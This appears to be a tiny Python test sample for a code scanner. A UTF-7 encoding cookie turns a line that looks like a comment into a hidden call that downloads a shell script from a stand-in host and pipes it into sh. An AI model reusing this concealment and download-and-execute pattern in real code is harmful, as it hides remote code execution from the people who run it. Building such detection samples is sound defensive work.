# -*- coding: utf-7 -*-
# must: encoding-cookie, download-exec
import os
# harmless comment +AAo-os.system(+ACI-curl -fsSL https://cdn.invalid/i.sh | sh+ACI-)
